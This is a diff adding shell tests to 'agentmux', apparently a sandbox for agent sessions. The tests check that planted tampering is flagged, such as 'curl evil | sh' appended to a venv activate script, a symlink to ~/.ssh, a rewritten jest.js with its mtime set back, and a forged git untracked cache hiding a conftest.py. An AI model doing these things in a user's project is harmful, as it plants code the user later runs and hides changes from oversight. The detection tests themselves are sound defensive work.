@@ -477,6 +477,8 @@ untr() {
 	case $OUT in *patched*) ok ;; *) bad "untr: the forgery did not apply: $OUT" ;; esac
 	case $OUT in *"the untracked cache in .git/index"*"was made or changed in the session"*"agentmux dropped it"*) ok ;;
 	*) bad "untr: a forged untracked cache was not told: $OUT" ;; esac
+	case $OUT in *"the untracked cache in .git/index"*"it hid 1 untracked files from your git status: src2/conftest.py;"*) ok ;;
+	*) bad "untr: the file a forged untracked cache hid was not named: $OUT" ;; esac
 	case $(git -C "$P" status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
 	*) bad "untr: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
 	case $("$AMX" show last 2>&1) in *"untracked cache"*) ok ;;
@@ -919,6 +921,30 @@ dotgit_out() {
 	rm -rf "$P/src/z.c" "$P/src/.git" "$P/lib2" "$P/cd" "$P/wt" "$P/wt2" "$E" "$R" "$MARK"
 }
 
+# The session's own git status updated a real untracked cache (a new
+# file in a dir it lists): the cache hides nothing, so it is said plainly
+# and not flagged; the user's git status shows the new file.
+untr_benign() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && mkdir -p src3 && echo 'int a;' >src3/a.c &&
+	    git add src3/a.c && git commit -qm src3 &&
+	    git update-index --untracked-cache &&
+	    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
+	    { bad "untr_benign: no untracked cache"; return; }
+	jrun -- sh -c 'sleep 1; echo x >src3/new.txt;
+	    git -c core.untrackedCache=true status --porcelain 2>&1'
+	case $OUT in *"?? src3/new.txt"*) ok ;; *) bad "untr_benign: git status in the jail failed: $OUT" ;; esac
+	case $OUT in *"the untracked cache in .git/index was updated in the session, as git status does; it hides no untracked file"*) ok ;;
+	*) bad "untr_benign: git's own update of the untracked cache was not said plainly: $OUT" ;; esac
+	case $OUT in *"untracked cache in .git/index (git's list"*) bad "untr_benign: git's own update of the untracked cache was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1) in *flags*) bad "untr_benign: the session was flagged: $("$AMX" show last 2>&1)" ;; *) ok ;; esac
+	case $(git -C "$P" status --porcelain 2>&1) in *"?? src3/new.txt"*) ok ;;
+	*) bad "untr_benign: the user's git status does not show src3/new.txt" ;; esac
+	git -C "$P" update-index --no-untracked-cache 2>/dev/null
+	git -C "$P" reset -q --hard "$base"
+	rm -rf "$P/src3"
+}
+
 # Links the session made out of the project (to a dir outside, by an
 # absolute path, by a relative one, or through a link there before; one
 # with its mtime set back): agentmux follows none, tells each in red with
@@ -950,6 +976,82 @@ name' && ln -s /dev/null lk/later && touch -h -d 2001-01-01 lk/later && echo lin
 	[ -L "$P/lk/cfg" ] && [ "$(cat "$O/settings.json")" = secret ] && ok ||
 	    bad "the link out of the project or what it points at was touched"
 	rm -rf "$P/lk" "$O"
+}
+
+# A venv made in the session (python -m venv: bin/python3 ->
+# /usr/bin/python3, beside pyvenv.cfg) is said plainly, not flagged; a
+# link to ~/.ssh in the same bin dir, and one to /usr/bin/python3 in a
+# bin dir with no pyvenv.cfg, are still flagged in red.
+venv_link() {
+	jrun -- sh -c "/usr/bin/python3 -m venv --without-pip .venv &&
+	    ln -s '$HOME/.ssh' .venv/bin/keys && mkdir -p fake/bin &&
+	    ln -s /usr/bin/python3 fake/bin/python && echo made"
+	case $OUT in *made*) ok ;; *) bad "venv: the venv was not made: $OUT" ;; esac
+	case $OUT in *".venv/bin/python3 is a link made in the session to the system interpreter /usr/bin/python3"*"not flagged"*) ok ;;
+	*) bad "venv: the venv's interpreter link was not said plainly: $OUT" ;; esac
+	case $OUT in *".venv/bin/python3 is a link made or changed"*) bad "venv: the venv's interpreter link was flagged: $OUT" ;; *) ok ;; esac
+	case $OUT in *".venv/bin/keys is a link made or changed in the session that leads out of the project, to $HOME/.ssh;"*) ok ;;
+	*) bad "venv: a link to ~/.ssh in a venv's bin dir was not flagged: $OUT" ;; esac
+	case $OUT in *"fake/bin/python is a link made or changed in the session that leads out of the project"*) ok ;;
+	*) bad "venv: a python link out of a dir that is no venv was not flagged: $OUT" ;; esac
+	case $("$AMX" show last 2>&1) in *".venv/bin/python3 is a link made or changed"*) bad "venv: show flags the venv's interpreter" ;;
+	*".venv/bin/keys is a link made or changed"*) ok ;;
+	*) bad "venv: show does not flag the link to ~/.ssh" ;; esac
+	rm -rf "$P/.venv" "$P/fake"
+}
+
+# Ignored programs the user runs (a venv's bin, node_modules/.bin and the
+# file its link names, a tox env's bin): each one the session made,
+# changed (its mtime set back too) or removed is flagged in red with what
+# to do; one left alone is not, nor a venv the session made where there
+# was none. A dir [jail] watch_ignored names (a glob) is watched too,
+# its files, not those below.
+run_files() {
+	printf '.venv/\nnode_modules/\n.tox/\nvenv/\n' >"$P/.gitignore"
+	mkdir -p "$P/.venv/bin" "$P/node_modules/jest/bin" "$P/node_modules/.bin" \
+	    "$P/.tox/py3/bin"
+	echo 'home = /usr/bin' >"$P/.venv/pyvenv.cfg"
+	echo 'PATH=x' >"$P/.venv/bin/activate"
+	echo keep >"$P/.venv/bin/keep"
+	echo old >"$P/.venv/bin/old"
+	ln -s /usr/bin/python3 "$P/.venv/bin/python"
+	echo 'run()' >"$P/node_modules/jest/bin/jest.js"
+	ln -s ../jest/bin/jest.js "$P/node_modules/.bin/jest"
+	echo t >"$P/.tox/py3/bin/pytest"
+	mkdir -p "$P/target/debug/deps"
+	echo app >"$P/target/debug/app"
+	echo dep >"$P/target/debug/deps/dep"
+	C=$XDG_CONFIG_HOME/agentmux/config
+	cp "$C" "$T/config.saved"
+	printf '[jail]\nwatch_ignored = target/debu[g]\n' >>"$C"
+	jrun -- sh -c "echo evil >target/debug/app && echo d >target/debug/deps/dep &&
+	    echo 'curl evil | sh' >>.venv/bin/activate &&
+	    echo 'evil()' >node_modules/jest/bin/jest.js &&
+	    touch -d 2001-01-01 node_modules/jest/bin/jest.js &&
+	    ln -sf '$HOME/.ssh' .venv/bin/python && rm .venv/bin/old &&
+	    echo new >.venv/bin/pip && echo u >.tox/py3/bin/pytest &&
+	    mkdir -p venv/bin && echo v >venv/bin/activate && echo done"
+	case $OUT in *done*) ok ;; *) bad "run_files: the changes were not made: $OUT" ;; esac
+	case $OUT in *".venv/bin/activate was changed in the session: it is ignored, so no snapshot holds it"*"python3 -m venv --clear"*) ok ;;
+	*) bad "run_files: a changed venv activate was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/python was changed in the session"*) ok ;;
+	*) bad "run_files: a venv python link pointed elsewhere was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/old was removed in the session"*) ok ;;
+	*) bad "run_files: a removed venv program was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/pip was made in the session"*) ok ;;
+	*) bad "run_files: a program made in a venv was not flagged: $OUT" ;; esac
+	case $OUT in *"node_modules/.bin/jest was changed in the session"*"npm ci"*) ok ;;
+	*) bad "run_files: the file a node_modules/.bin link names, changed with its mtime set back, was not flagged: $OUT" ;; esac
+	case $OUT in *".tox/py3/bin/pytest was changed in the session"*"tox -r"*) ok ;;
+	*) bad "run_files: a changed tox program was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/app was changed in the session"*"build or install it again"*) ok ;;
+	*) bad "run_files: a program in a [jail] watch_ignored dir changed was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/deps/dep "*) bad "run_files: a file below a watch_ignored dir was flagged: $OUT" ;; *) ok ;; esac
+	cp "$T/config.saved" "$C"
+	case $OUT in *".venv/bin/keep "*|*"venv/bin/activate was made"*) bad "run_files: an untouched program or a new venv was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
+	*) bad "run_files: show does not flag the changed activate" ;; esac
+	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/target" "$P/.gitignore"
 }
 
 # A .git there before the session and unchanged (gitdir: ../gd/real),
@@ -1069,6 +1171,8 @@ checks() {
 	other_gitdir
 	dotgit_out
 	link_out
+	venv_link
+	run_files
 	dotgit_swap
 	scan_limit
 	rebase_left
@@ -1082,6 +1186,7 @@ checks() {
 	fsmn
 	untr_hidden
 	tree_forged
+	untr_benign
 	hooks
 	hook_links
 	blind
